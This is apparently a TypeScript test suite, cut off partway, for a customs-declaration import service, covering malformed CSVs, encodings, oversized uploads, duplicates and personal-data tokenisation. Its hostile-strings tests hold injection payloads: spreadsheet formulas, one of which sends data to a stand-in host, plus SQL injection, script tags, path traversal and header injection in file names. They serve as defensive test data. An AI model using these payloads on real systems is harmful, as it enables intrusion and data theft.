/**
 * What arrives at the door of a running site and is not as it should be: broken files, wrong encodings, bodies without end,
 * hostile strings, clocks that are wrong, messages late, repeated or corrected, codes of persons. Each gets an error that
 * names row, field and remedy in both languages, or comes in with a flag; nothing is lost, doubled or run.
 */
import assert from 'node:assert/strict'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { request } from 'node:http'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import iconv from 'iconv-lite'
import { type Answer, type RunningSite, startSite, Visitor } from '../support/running-site.ts'

const SOURCE = 'customs.declarations'
const HEADER = [
  'Declaration ID',
  'Date',
  'Office ID',
  'Declarant ID',
  'Importer ID',
  'HS6 Code',
  'Country of Departure',
  'Country of Origin',
  'Mode of Transport',
  'Net Mass',
  'Item Price',
]
const CHINESE_HEADER = '报关单号,申报日期,申报关,商品编码,启运国,原产国,运输方式'
const DAY = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)

type Cells = Partial<Record<(typeof HEADER)[number], string>>
const rowOf = (externalNo: string, cells: Cells = {}): string => {
  const usual: Cells = {
    'Declaration ID': externalNo,
    Date: DAY,
    'Office ID': '02',
    'Declarant ID': 'D17',
    'Importer ID': 'I42',
    'HS6 Code': '870899',
    'Country of Departure': 'DE',
    'Country of Origin': 'DE',
    'Mode of Transport': '10',
    'Net Mass': '1800',
    'Item Price': '540000',
  }
  return HEADER.map((name) => cells[name] ?? usual[name]).join(',')
}
const csv = (...rows: string[]): string => `${HEADER.join(',')}\n${rows.join('\n')}\n`

type Fault = { field: string; row?: number; zh: string; en: string }
type Problem = { status: number; code: string; zh: string; en: string; fields?: Fault[] }
type Run = {
  id: string
  status: string
  encoding: string
  fileName: string
  rowsRead: number
  accepted: number
  repeated: number
  corrected: number
  rejected: number
  failure: unknown
  notices: { zh: string; en: string }[]
}
type Reject = { row: number; field: string; message: { zh: string; en: string }; line: string }
type Result = { index: number; status: string; id?: string; fields?: Fault[] }
type Row = { id: string; externalNo: string; version: number; flags: string[] }

let site: RunningSite
let customs: Visitor
before(async () => {
  site = await startSite()
  customs = await new Visitor(site).become('demo.customs')
})
after(() => site.end())

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))
const CHINESE = /\p{Script=Han}/u

/** An error as a person can act on: known code, both languages, no inner words. */
const isProblem = (answer: Answer, status: number, code: string): Problem => {
  const problem = answer.body as Problem
  assert.equal(answer.status, status, JSON.stringify(problem))
  assert.equal(problem.code, code, JSON.stringify(problem))
  assert.match(problem.zh, CHINESE)
  assert.ok(problem.en.length > 0 && !CHINESE.test(problem.en), problem.en)
  for (const fault of problem.fields ?? []) {
    assert.ok(fault.field.length > 0)
    assert.match(fault.zh, CHINESE)
    assert.ok(fault.en.length > 0)
  }
  assert.doesNotMatch(JSON.stringify(problem), /node_modules|\.ts:|pg_|syntax error|relation "/i)
  return problem
}

const send = (bytes: Uint8Array | string, name = 'file.csv', visitor = customs): Promise<Answer> =>
  visitor.ask(
    'POST',
    `/imports?source=${SOURCE}&name=${encodeURIComponent(name)}`,
    typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
  )

const followed = async (id: string): Promise<Run> => {
  for (;;) {
    const { body } = await customs.ask('GET', `/imports/${id}`)
    const run = body as Run
    if (run.status === 'done' || run.status === 'failed') return run
    await pause(40)
  }
}

/** Imports a file to its end. */
const imported = async (bytes: Uint8Array | string, name = 'file.csv'): Promise<Run & { rejects: Reject[] }> => {
  const answer = await send(bytes, name)
  assert.equal(answer.status, 202, JSON.stringify(answer.body))
  const { id } = answer.body as { id: string }
  const run = await followed(id)
  assert.equal(run.status, 'done', JSON.stringify(run))
  const { body } = await customs.ask('GET', `/imports/${id}/rejects?limit=200`)
  const { rows } = body as { rows: Reject[] }
  for (const reject of rows) {
    assert.match(reject.message.zh, CHINESE)
    assert.ok(reject.message.en.length > 0)
  }
  return { ...run, rejects: rows }
}

const counts = (run: Run): number[] => [run.rowsRead, run.accepted, run.repeated, run.corrected, run.rejected]

const item = (externalNo: string, more: Record<string, unknown> = {}, body: Record<string, unknown> = {}) => ({
  sourceCode: SOURCE,
  externalNo,
  kind: 'declaration',
  observedAt: new Date().toISOString(),
  ...more,
  body: { office: '02', hs6: '870899', departure: 'DE', origin: 'DE', mode: '10', netMass: 9, itemPrice: 9, ...body },
})
const post = async (items: unknown[]): Promise<Result[]> => {
  const answer = await customs.ask('POST', '/signals', { items })
  assert.equal(answer.status, 200, JSON.stringify(answer.body))
  return (answer.body as { results: Result[] }).results
}
const found = async (q: string): Promise<Row[]> => {
  const { status, body } = await customs.ask('GET', `/signals?limit=200&q=${encodeURIComponent(q)}`)
  assert.equal(status, 200, JSON.stringify(body))
  return (body as { rows: Row[] }).rows
}
const importsFolder = (): string[] => {
  try {
    return readdirSync(join(site.dataDir, 'imports'))
  } catch {
    return []
  }
}

describe('broken files', () => {
  test('a quote that is never closed costs its own row, not the rest of the file', async () => {
    const run = await imported(
      csv(rowOf('BRK-1'), `"BRK-2,${DAY},02`, rowOf('BRK-3'), rowOf('"BRK-4" x'), rowOf('BRK-5')),
    )
    assert.deepEqual(counts(run), [5, 3, 0, 0, 2])
    assert.deepEqual(
      run.rejects.map(({ row, field }) => [row, field]),
      [
        [3, 'row'],
        [5, 'row'],
      ],
    )
    assert.match(run.rejects[0]!.message.en, /quote/)
    assert.deepEqual((await found('BRK-5')).length, 1)
  })

  test('a quoted cell may hold delimiters and line ends', async () => {
    const run = await imported(csv(rowOf('"QUO-1"'), rowOf('QUO-2', { 'Importer ID': '"a""b"' })))
    assert.deepEqual(counts(run), [2, 1, 0, 0, 1])
    assert.equal(run.rejects[0]!.field, 'Importer ID')
  })

  test('rows with too few and too many columns are named; nothing of them is kept, because columns have slipped', async () => {
    const run = await imported(csv(rowOf('COL-1'), 'COL-2,secret-person', `${rowOf('COL-3')},more`, '', rowOf('COL-4')))
    assert.deepEqual(counts(run), [4, 2, 0, 0, 2])
    assert.deepEqual(
      run.rejects.map(({ row, field, line }) => [row, field, line]),
      [
        [3, 'row', ''],
        [4, 'row', ''],
      ],
    )
    assert.match(run.rejects[0]!.message.en, /2 cells where the header has 11/)
  })

  test('cells that do not fit their column: every fault of a row with its field and remedy', async () => {
    const run = await imported(
      csv(
        rowOf('CEL-1', {
          Date: '2026-02-30',
          'HS6 Code': '87089',
          'Country of Origin': 'Germany',
          'Net Mass': '1,8',
        }).replace('1,8', '"1,8"'),
        rowOf('', { 'Item Price': '-5' }),
      ),
    )
    assert.deepEqual(counts(run), [2, 0, 0, 0, 2])
    assert.deepEqual(
      run.rejects.map(({ row, field }) => `${row} ${field}`).sort(),
      ['2 Country of Origin', '2 Date', '2 HS6 Code', '2 Net Mass', '3 Declaration ID', '3 Item Price'].sort(),
    )
    assert.match(run.rejects.find(({ field }) => field === 'Date')!.message.en, /2026-02-30.*a date that exists/)
  })

  test('a header without a column that is needed, or with one twice, is refused as a whole and names the column', async () => {
    const missing = isProblem(await send('Declaration ID,Date\nHDR-1,2026-01-01\n'), 400, 'invalid')
    assert.deepEqual(
      missing.fields!.map(({ field, row }) => [field, row]),
      ['Office ID', 'HS6 Code', 'Country of Departure', 'Country of Origin'].map((field) => [field, 1]),
    )
    const twice = isProblem(await send(`${HEADER.join(',')},日期\n${rowOf('HDR-2')},${DAY}\n`), 400, 'invalid')
    assert.match(twice.fields![0]!.en, /occurs twice \(columns 2 and 12\)/)
    isProblem(await send(`"Declaration ID,Date\n${rowOf('HDR-3')}\n`), 400, 'invalid')
  })

  test('an unknown column is not read and the import says so; outcome labels are left out on purpose', async () => {
    const run = await imported(`${HEADER.join(',')},Colour,Fraud\n${rowOf('UNK-1')},red,1\n`)
    assert.deepEqual(counts(run), [1, 1, 0, 0, 0])
    assert.deepEqual(
      run.notices.map(({ en }) => en.slice(0, 36)),
      ['Columns that were not read: Colour', 'Columns left out on purpose: Fraud. '],
    )
    const [row] = await found('UNK-1')
    const { body } = await customs.ask('GET', `/signals/${row!.id}`)
    const { fields } = body as { fields: { key: string; value: unknown }[] }
    assert.deepEqual(
      fields.filter(({ key, value }) => /fraud|colour/i.test(key) || value === 'red' || value === '1'),
      [],
    )
  })

  test('empty files, and files that are no text, are refused with what to do', async () => {
    isProblem(await send(new Uint8Array(0)), 400, 'invalid')
    isProblem(await send('\uFEFF'), 400, 'invalid')
    isProblem(await send('\n\n  \n'), 400, 'invalid')
    const noise = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919 + (i >> 3) * 31) % 256))
    for (const bytes of [
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...noise]),
      Buffer.from([0x50, 0x4b, 0x03, 0x04, ...noise]),
      Buffer.from([0x1f, 0x8b, 0x08, ...noise]),
      Buffer.from('%PDF-1.7\n1 0 obj'),
      noise,
      Buffer.alloc(4000),
    ])
      assert.match(isProblem(await send(bytes), 415, 'unsupported').en, /CSV \(UTF-8\)/)
    // A header and no row: nothing to take, and said so by its numbers.
    assert.deepEqual(counts(await imported(csv())), [0, 0, 0, 0, 0])
    assert.deepEqual(importsFolder(), [])
  })

  test('cells and rows that are much too long are refused by row; the rows around them come in', async () => {
    const run = await imported(
      csv(
        rowOf('LNG-1'),
        rowOf('L'.repeat(10_000)),
        rowOf('LNG-2', { 'Importer ID': 'x'.repeat(70_000) }),
        rowOf('LNG-3'),
      ),
    )
    assert.deepEqual(counts(run), [4, 2, 0, 0, 2])
    assert.deepEqual(
      run.rejects.map(({ row, field }) => [row, field]),
      [
        [3, 'Declaration ID'],
        [4, 'row'],
      ],
    )
    assert.ok(run.rejects.every(({ line }) => line.length <= 2000))
    assert.ok(run.rejects[0]!.message.en.length < 300)
  })

  test('an import under a source that does not exist is not found, before a byte is taken', async () => {
    isProblem(await customs.ask('POST', '/imports?source=nobody&name=a.csv', Buffer.from(csv())), 404, 'not_found')
    isProblem(await customs.ask('POST', '/imports?source=&name=a.csv', Buffer.from(csv())), 400, 'invalid')
    isProblem(await customs.ask('POST', '/imports?name=a.csv', Buffer.from(csv())), 400, 'invalid')
  })
})

describe('encodings', () => {
  const rows = (prefix: string): string =>
    `${CHINESE_HEADER}\r\n${['甲', '乙', '丙'].map((letter) => `${prefix}关${letter},${DAY},02,870899,DE,DE,10`).join('\r\n')}\r\n`

  test('GBK, GB 18030 and UTF-16 with and without a mark bring the very rows that UTF-8 brings', async () => {
    const text = rows('编码')
    const first = await imported(text)
    assert.equal(first.encoding, 'utf-8')
    assert.deepEqual(counts(first), [3, 3, 0, 0, 0])
    const same: [string, Buffer][] = [
      ['utf-8-bom', Buffer.from(`\uFEFF${text}`)],
      ['gb18030', iconv.encode(text, 'gbk')],
      ['gb18030', iconv.encode(text, 'gb18030')],
      ['utf-16le', iconv.encode(text, 'utf-16le', { addBOM: true })],
      ['utf-16be', iconv.encode(text, 'utf-16be', { addBOM: true })],
    ]
    for (const [encoding, bytes] of same) {
      const run = await imported(bytes)
      assert.equal(run.encoding, encoding)
      assert.deepEqual(counts(run), [3, 0, 3, 0, 0], encoding)
    }
    assert.equal((await found('编码关乙')).length, 1)
  })

  test('GBK by the page is the same import as UTF-8: numbers, rows, notices', async () => {
    const wide = `${CHINESE_HEADER},备注\n国标一,${DAY},02,870899,DE,DE,10,轻\n国标二,${DAY},02,87089,DE,DE,10,重\n`
    const gbk = await imported(iconv.encode(wide, 'gbk'))
    assert.deepEqual(counts(gbk), [2, 1, 0, 0, 1])
    const utf8 = await imported(wide)
    assert.deepEqual(counts(utf8), [2, 0, 1, 0, 1])
    assert.deepEqual(utf8.rejects, gbk.rejects)
    assert.deepEqual(utf8.notices, gbk.notices)
    assert.match(gbk.notices[0]!.zh, /备注/)
  })

  test('text in an encoding that cannot be told is refused with the remedy, and so is UTF-8 with bytes that are none', async () => {
    const latin1 = Buffer.from(csv(rowOf('ENC-1', { 'Importer ID': 'Müller Söhne Größe Äpfel' })), 'latin1')
    assert.match(isProblem(await send(latin1), 415, 'unsupported').en, /UTF-8/)
    const torn = Buffer.concat([Buffer.from(`\uFEFF${csv(rowOf('ENC-2'))}`), Buffer.from([0xff, 0xfe, 0x41])])
    isProblem(await send(torn), 415, 'unsupported')
    assert.deepEqual(importsFolder(), [])
  })
})

describe('bodies without end', () => {
  const MIB = 1024 * 1024

  /** Sends up to `total` bytes as long as they are taken. */
  const pour = (
    path: string,
    total: number,
    headers: Record<string, string | number>,
  ): Promise<{ status: number; text: string; sent: number; ms: number }> =>
    new Promise((resolve, reject) => {
      const start = performance.now()
      let sent = 0
      let answered = false
      const chunk = Buffer.alloc(MIB, 'a,b\n')
      const call = request(`${site.url}/api${path}`, {
        method: 'POST',
        headers: { 'x-tongguan': '1', cookie: customs.cookie, ...headers },
      })
      call.on('response', (response) => {
        answered = true
        let text = ''
        response.on('data', (part: Buffer) => {
          text += part
        })
        const done = () =>
          resolve({ status: response.statusCode ?? 0, text, sent, ms: Math.round(performance.now() - start) })
        response.on('end', done)
        response.on('error', done)
      })
      // A server that has answered may close while we still send.
      call.on('error', (error) => answered || reject(error))
      const next = (): void => {
        if (answered || call.destroyed) return
        if (sent >= total) return void call.end()
        sent += MIB
        call.write(chunk, () => setImmediate(next))
      }
      next()
    })

  test('100 MB with its length told: 413 at once, in both languages, without being read', async () => {
    const raw = { 'content-type': 'application/octet-stream', 'content-length': 100 * MIB }
    const answer = await pour(`/imports?source=${SOURCE}&name=big.csv`, 100 * MIB, raw)
    const problem = isProblem({ status: answer.status, body: JSON.parse(answer.text) }, 413, 'too_large')
    assert.match(problem.en, /64 MiB/)
    assert.ok(answer.ms < 3000, `${answer.ms} ms`)
    assert.ok(answer.sent < 80 * MIB, `${answer.sent / MIB} MiB were sent`)
    assert.deepEqual(importsFolder(), [])
  })

  test('100 MB in pieces whose sum nobody told: 413 when the limit is passed, and nothing stays on the disk', async () => {
    const raw = { 'content-type': 'application/octet-stream', 'transfer-encoding': 'chunked' }
    const answer = await pour(`/imports?source=${SOURCE}&name=big.csv`, 100 * MIB, raw)
    isProblem({ status: answer.status, body: JSON.parse(answer.text) }, 413, 'too_large')
    assert.ok(answer.sent <= 96 * MIB, `${answer.sent / MIB} MiB were sent`)
    assert.deepEqual(importsFolder(), [])
    // The site is at work, and no connection hangs on the one that was refused.
    assert.equal((await customs.ask('GET', '/signals/count')).status, 200)
  })

  test('as one call of a browser it is a 413 too, not a broken connection', async () => {
    const answer = await customs.ask('POST', `/imports?source=${SOURCE}&name=big.csv`, new Uint8Array(100 * MIB))
    isProblem(answer, 413, 'too_large')
  })

  test('JSON beyond its limit', async () => {
    const big = { items: [item('BIG-1', {}, { courier: 'x'.repeat(3 * MIB) })] }
    isProblem(await customs.ask('POST', '/signals', big), 413, 'too_large')
    const raw = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }
    const answer = await pour('/signals', 30 * MIB, raw)
    isProblem({ status: answer.status, body: JSON.parse(answer.text) }, 413, 'too_large')
  })

  test('who may not import sends nothing to the disk', async () => {
    const stranger = await new Visitor(site).become('demo.terminal')
    isProblem(await send(csv(rowOf('STR-1')), 'a.csv', stranger), 403, 'forbidden')
    isProblem(await send(csv(rowOf('STR-1')), 'a.csv', new Visitor(site)), 401, 'unauthenticated')
    assert.deepEqual(importsFolder(), [])
  })

  test('an upload that breaks off leaves nothing and holds nothing up', async () => {
    await new Promise<void>((resolve) => {
      const call = request(`${site.url}/api/imports?source=${SOURCE}&name=cut.csv`, {
        method: 'POST',
        headers: {
          'x-tongguan': '1',
          cookie: customs.cookie,
          'content-type': 'application/octet-stream',
          'content-length': 10 * MIB,
        },
      })
      call.on('error', () => resolve())
      call.write(csv(rowOf('CUT-1')), () => setTimeout(() => call.destroy(new Error('cut')), 200))
    })
    for (let i = 0; i < 50 && importsFolder().length > 0; i++) await pause(50)
    assert.deepEqual(importsFolder(), [])
    assert.equal((await found('CUT-1')).length, 0)
    assert.equal((await post([item('CUT-2')]))[0]!.status, 'accepted')
  })
})

describe('hostile strings', () => {
  const FORMULAS = [
    `=cmd|'/c calc'!A0`,
    '=HYPERLINK("http://evil.example/?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '＝1+1',
  ]

  test('formulas are kept as they came and harmless in the exported file', async () => {
    const run = await imported(
      csv(...FORMULAS.map((text) => rowOf(/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text))),
      `=1+1.csv`,
    )
    assert.deepEqual(counts(run), [FORMULAS.length, 0, 0, 0, FORMULAS.length])
    // The tab is a control character: shown as such. Everything else is what came.
    for (const [i, text] of FORMULAS.entries())
      assert.ok(run.rejects[i]!.line.startsWith(text.replace('\t', '�')), run.rejects[i]!.line)
    const response = await fetch(`${site.url}/api/imports/${run.id}/rejects.csv`, {
      headers: { cookie: customs.cookie },
    })
    assert.equal(response.status, 200)
    assert.match(response.headers.get('content-type')!, /^text\/csv/)
    assert.match(response.headers.get('content-disposition')!, /^attachment; filename\*=UTF-8''/)
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff')
    assert.equal(response.headers.get('cache-control'), 'no-store')
    const exported = await response.text()
    const lines = exported
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
    assert.equal(lines.length, FORMULAS.length + 1)
    for (const line of lines.slice(1))
      for (const cell of cellsOf(line)) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/, line)
    assert.match(exported, /'=cmd/)
  })

  const cellsOf = (line: string): string[] => {
    const cells: string[] = []
    for (const match of line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g))
      cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    return cells
  }

  test('NUL and control characters in a file cost their row', async () => {
    const run = await imported(
      csv(rowOf('NUL-1'), rowOf('NUL\u0000-2'), rowOf('NUL-3', { 'Importer ID': 'a\u0007b' }), rowOf('NUL-4')),
    )
    assert.deepEqual(counts(run), [4, 2, 0, 0, 2])
    assert.deepEqual(
      run.rejects.map(({ row, field }) => [row, field]),
      [
        [3, 'Declaration ID'],
        [4, 'Importer ID'],
      ],
    )
    assert.match(run.rejects[0]!.message.en, /control characters; remove them/)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    assert.doesNotMatch(JSON.stringify(run.rejects.map(({ line }) => line)), /\\u0000|[\u0000-\u001F]/)
  })

  test('NUL, lone surrogates and control characters anywhere in a request are a refusal that names the field, never a failure', async () => {
    const [result] = await post([item('A\u0000B'), item('HST-1')])
    assert.equal(result!.status, 'rejected')
    assert.equal(result!.fields![0]!.field, 'Declaration ID')
    const duty = await new Visitor(site).become('demo.duty')
    const warning = {
      level: 'blue',
      title: 'Container',
      body: 'Look',
      riskType: 'x',
      place: 'sea',
      jurisdiction: 'CN',
      audience: ['customs'],
      ackMinutes: 30,
    }
    for (const bad of ['\u0000', 'a\u0000b', '\ud800', 'a\udc00b']) {
      for (const [method, path, body] of [
        ['POST', '/signals', { items: [item('HST-2', { sourceCode: bad })] }],
        ['POST', '/signals', { items: [item('HST-3', {}, { office: bad })] }],
        ['POST', '/signals', { items: [item('HST-4', {}, { [bad]: 'x' })] }],
        ['GET', `/signals?q=${encodeURIComponent(bad.toWellFormed())}`, undefined],
        ['GET', `/signals?source=${encodeURIComponent(bad.toWellFormed())}`, undefined],
        ['GET', `/signals?kind=${encodeURIComponent(bad.toWellFormed())}`, undefined],
        ['GET', `/signals/count?kind=${encodeURIComponent(bad.toWellFormed())}`, undefined],
        ['GET', `/imports?before=${encodeURIComponent(bad.toWellFormed())}`, undefined],
      ] as const) {
        const answer = await customs.ask(method, path, body)
        assert.ok(answer.status < 500, `${method} ${path}: ${JSON.stringify(answer.body)}`)
      }
      const titled = await duty.ask('POST', '/warnings', { ...warning, title: bad })
      isProblem(titled, 400, 'invalid')
      assert.ok(
        (titled.body as Problem).fields?.some(({ field }) => field === 'title'),
        JSON.stringify(titled.body),
      )
      isProblem(await duty.ask('POST', '/warnings', { ...warning, audience: [bad] }), 400, 'invalid')
      isProblem(await new Visitor(site).ask('POST', '/session', { login: bad, password: bad }), 400, 'invalid')
    }
    assert.equal((await customs.ask('GET', '/signals?q=%00')).status, 400)
    // A path that is no UTF-8.
    isProblem(await customs.ask('GET', '/signals/%ff%fe'), 400, 'invalid')
  })

  test('words of SQL, of search operators and of HTML are words', async () => {
    const before = (await customs.ask('GET', '/signals/count')).body as { count: number }
    for (const q of [
      `'; drop table signal; --`,
      `' or '1'='1`,
      'a & b | !c',
      '(((',
      ':*',
      '<->',
      '\\',
      `"'"`,
      '%',
      '<script>alert(1)</script>',
      'x'.repeat(200),
      '龘'.repeat(200),
    ]) {
      const { status, body } = await customs.ask('GET', `/signals?q=${encodeURIComponent(q)}`)
      assert.equal(status, 200, `${q}: ${JSON.stringify(body)}`)
      assert.deepEqual((body as { rows: unknown[] }).rows, [], q)
    }
    const results = await post([item(`'; drop table signal; --`), item('<script>alert(1)</script>'), item(`O'Brien`)])
    assert.deepEqual(
      results.map(({ status, fields }) => [status, fields?.[0]?.field]),
      results.map(() => ['rejected', 'Declaration ID']),
    )
    const after = (await customs.ask('GET', '/signals/count')).body as { count: number }
    assert.ok(after.count >= before.count)
  })

  test('a file may be called anything', async () => {
    for (const [name, kept] of [
      ['../../etc/passwd', 'passwd'],
      ['..\\..\\boot.ini', 'boot.ini'],
      ['a\r\nSet-Cookie: x=1.csv', 'aSet-Cookie: x=1.csv'],
      ['\u202Evsc.exe', 'vsc.exe'],
      ['报关单 "一".csv', '报关单 "一".csv'],
      ['..', '..'],
    ] as const) {
      const run = await imported(csv(), name)
      assert.equal(run.fileName, kept)
      const response = await fetch(`${site.url}/api/imports/${run.id}/rejects.csv`, {
        headers: { cookie: customs.cookie },
      })
      const disposition = response.headers.get('content-disposition')!
      assert.doesNotMatch(disposition, /[\r\n"\u0080-\uffff]/)
      await response.text()
    }
  })

  test('bodies that are no JSON, not of the shape, or built to break a parser', async () => {
    const raw = async (text: string, type = 'application/json'): Promise<Answer> => {
      const response = await fetch(`${site.url}/api/signals`, {
        method: 'POST',
        headers: { 'x-tongguan': '1', cookie: customs.cookie, 'content-type': type },
        body: text,
      })
      return { status: response.status, body: await response.json() }
    }
    isProblem(await raw('{"items":['), 400, 'invalid')
    isProblem(await raw(''), 400, 'invalid')
    isProblem(await raw('null'), 400, 'invalid')
    isProblem(await raw('[]'), 400, 'invalid')
    isProblem(await raw('{"items":[]}'), 400, 'invalid')
    isProblem(await raw('{"__proto__":{"items":[]},"items":[]}'), 400, 'invalid')
    isProblem(await raw('{"constructor":{"prototype":{"x":1}}}'), 400, 'invalid')
    isProblem(await raw(`${'['.repeat(100_000)}${']'.repeat(100_000)}`), 400, 'invalid')
    isProblem(await raw(`{"items":${'{"items":'.repeat(20_000)}1${'}'.repeat(20_000)}}`), 400, 'invalid')
    isProblem(await raw(JSON.stringify({ items: [item('SHP-1')] }), 'text/html'), 415, 'unsupported')
    isProblem(await customs.ask('POST', `/imports?source=${SOURCE}&name=a.csv`, { a: 1 }), 415, 'unsupported')
    isProblem(
      await raw(JSON.stringify({ items: Array.from({ length: 1001 }, (_, i) => ({ ...item(`SHP-${i}`) })) })),
      400,
      'invalid',
    )
    const [result] = await post([item('SHP-2', {}, { netMass: 1e13, office: null, colour: 'red' })])
    assert.deepEqual(result!.fields!.map(({ field }) => field).sort(), ['Net Mass', 'Office ID', 'colour'])
    assert.equal(result!.fields![0]!.row, 0)
    const one = isProblem(await customs.ask('POST', '/signals', item('SHP-3', {}, { hs6: 'x' })), 400, 'invalid')
    assert.deepEqual(
      one.fields!.map(({ field }) => field),
      ['HS6 Code'],
    )
  })

  test('numbers out of range in a query are refused or harmless', async () => {
    for (const path of [
      '/signals?limit=0',
      '/signals?limit=-1',
      '/signals?limit=1e9',
      '/signals?limit=abc',
      '/signals?before=abc',
      '/signals?level=7',
      '/imports?before=AAAA',
      '/signals/not-a-uuid',
    ])
      isProblem(await customs.ask('GET', path), 400, 'invalid')
    const auditor = await new Visitor(site).become('demo.auditor')
    for (const seq of ['-1', 'x', '9007199254740993', '99999999999999999999999', 'NaN'])
      assert.ok([400, 404].includes((await auditor.ask('GET', `/ledger/prove/${seq}`)).status), seq)
    assert.equal((await auditor.ask('GET', '/ledger/entries?before=zzz')).status, 400)
  })
})

describe('time and repetition', () => {
  const at = (ms: number): string => new Date(Date.now() + ms).toISOString()
  const HOUR = 3_600_000

  test('a clock that is ahead and a message that is late are taken and flagged', async () => {
    const results = await post([
      item('CLK-ahead', { observedAt: at(HOUR) }),
      item('CLK-far', { observedAt: '9998-12-31T23:59:59Z' }),
      item('CLK-late', { observedAt: at(-40 * 24 * HOUR) }),
      item('CLK-old', { observedAt: '1960-01-01T00:00:00+08:00' }),
      item('CLK-now', { observedAt: at(-HOUR) }),
      item('CLK-zone', { observedAt: at(0).replace('Z', '') }),
      item('CLK-none', { observedAt: '2026-02-30T00:00:00Z' }),
      item('CLK-leap', { observedAt: 'yesterday' }),
    ])
    assert.deepEqual(
      results.map(({ status, fields }) => [status, fields?.[0]?.field ?? null]),
      [
        ['accepted', null],
        ['accepted', null],
        ['accepted', null],
        ['accepted', null],
        ['accepted', null],
        ['rejected', 'observedAt'],
        ['rejected', 'observedAt'],
        ['rejected', 'observedAt'],
      ],
    )
    for (const [number, flags] of [
      ['CLK-ahead', ['clock_ahead']],
      ['CLK-far', ['clock_ahead']],
      ['CLK-late', ['late']],
      ['CLK-old', ['late']],
      ['CLK-now', []],
    ] as const) {
      const [row] = await found(number)
      assert.deepEqual(row!.flags, flags, number)
    }
  })

  test('what is said again is known under the same id; in a file too', async () => {
    const items = [item('REP-1', { observedAt: at(-HOUR) }), item('REP-2', { observedAt: at(-HOUR) })]
    const first = await post(items)
    const again = await post([...items].reverse())
    assert.deepEqual(
      again.map(({ status }) => status),
      ['repeated', 'repeated'],
    )
    assert.deepEqual(
      again.map(({ id }) => id).reverse(),
      first.map(({ id }) => id),
    )
    const file = csv(rowOf('REP-3'), rowOf('REP-4'), rowOf('REP-3'))
    assert.deepEqual(counts(await imported(file)), [3, 2, 1, 0, 0])
    assert.deepEqual(counts(await imported(file)), [3, 0, 3, 0, 0])
    for (const number of ['REP-1', 'REP-2', 'REP-3', 'REP-4']) assert.equal((await found(number)).length, 1)
  })

  test('eight senders of one batch at once, and the same file twice at once: each message once', async () => {
    const items = Array.from({ length: 60 }, (_, i) => item(`PAR-${i}`, { observedAt: at(-HOUR) }))
    const answers = await Promise.all(
      Array.from({ length: 8 }, (_, n) => post(n % 2 === 0 ? items : [...items].reverse())),
    )
    const ids = new Map<string, Set<string>>()
    answers.forEach((results, n) => {
      const order = n % 2 === 0 ? items : [...items].reverse()
      for (const { index, id } of results) {
        const number = order[index]!.externalNo
        ids.set(number, (ids.get(number) ?? new Set()).add(id!))
      }
    })
    const statuses = answers.flat().map(({ status }) => status)
    assert.equal(statuses.filter((status) => status === 'accepted').length, 60)
    assert.equal(statuses.filter((status) => status === 'repeated').length, 420)
    for (const [number, seen] of ids) {
      assert.equal(seen.size, 1, number)
      assert.equal((await found(number)).length, 1)
    }
    const file = csv(...Array.from({ length: 1500 }, (_, i) => rowOf(`TWI-${i}`)))
    const runs = await Promise.all([imported(file), imported(file)])
    assert.equal(runs[0]!.accepted + runs[1]!.accepted, 1500)
    assert.equal(runs[0]!.repeated + runs[1]!.repeated, 1500)
  })

  test('a correction is a second version; the first is kept, and a late copy of it changes nothing', async () => {
    const original = item('COR-1', { observedAt: at(-HOUR) })
    const corrected = { ...original, body: { ...original.body, hs6: '870829' } }
    const [first] = await post([original])
    const [second] = await post([corrected])
    assert.equal(second!.status, 'corrected')
    assert.notEqual(second!.id, first!.id)
    assert.deepEqual((await post([original]))[0], { index: 0, status: 'repeated', id: first!.id })
    type Whole = {
      version: number
      versions: { id: string; version: number }[]
      fields: { key: string; value: unknown }[]
    }
    const one = (await customs.ask('GET', `/signals/${first!.id}`)).body as Whole
    const two = (await customs.ask('GET', `/signals/${second!.id}`)).body as Whole
    assert.equal(one.version, 1)
    assert.equal(two.version, 2)
    assert.equal(one.fields.find(({ key }) => key === 'hs6')!.value, '870899')
    assert.equal(two.fields.find(({ key }) => key === 'hs6')!.value, '870829')
    for (const whole of [one, two])
      assert.deepEqual(
        whole.versions.map(({ id, version }) => [id, version]),
        [
          [first!.id, 1],
          [second!.id, 2],
        ],
      )
    assert.deepEqual(counts(await imported(csv(rowOf('COR-2'), rowOf('COR-2', { 'Net Mass': '7' })))), [2, 1, 0, 1, 0])
  })
})

describe('codes that are or may be persons', () => {
  // Invented; the first is the example of GB 11643-1999, the second has the form of a mobile number.
  const SECRETS = ['11010519491231002X', '13800138000', 'E12345678', '欧阳无名氏', 'ZQX-PRIVATE-77']

  test('become tokens; the code itself is in no answer, list, search, record, message or file', async () => {
    const results = await post(
      SECRETS.map((secret, i) => item(`PER-${i}`, {}, { importer: secret, declarant: secret, seller: secret })),
    )
    assert.deepEqual(
      results.map(({ status }) => status),
      SECRETS.map(() => 'accepted'),
    )
    const run = await imported(
      csv(
        ...SECRETS.map((secret, i) => rowOf(`PEF-${i}`, { 'Importer ID': secret, 'Declarant ID': secret })),
        // Refused rows: in the party's column, in a column where it does not belong, and slipped.
        ...SECRETS.map((secret) => rowOf('PEF-x', { 'Importer ID': secret, 'HS6 Code': 'bad' })),
        rowOf('PEF-y', { 'Office ID': SECRETS[0]! }),
        rowOf('PEF-y', { 'Importer ID': `=${SECRETS[4]}` }),
        `PEF-z,${SECRETS.join(',')}`,
        `"PEF-q,${SECRETS[0]}`,
      ),
    )
    assert.deepEqual(counts(run), [SECRETS.length * 2 + 4, SECRETS.length, 0, 0, SECRETS.length + 4])

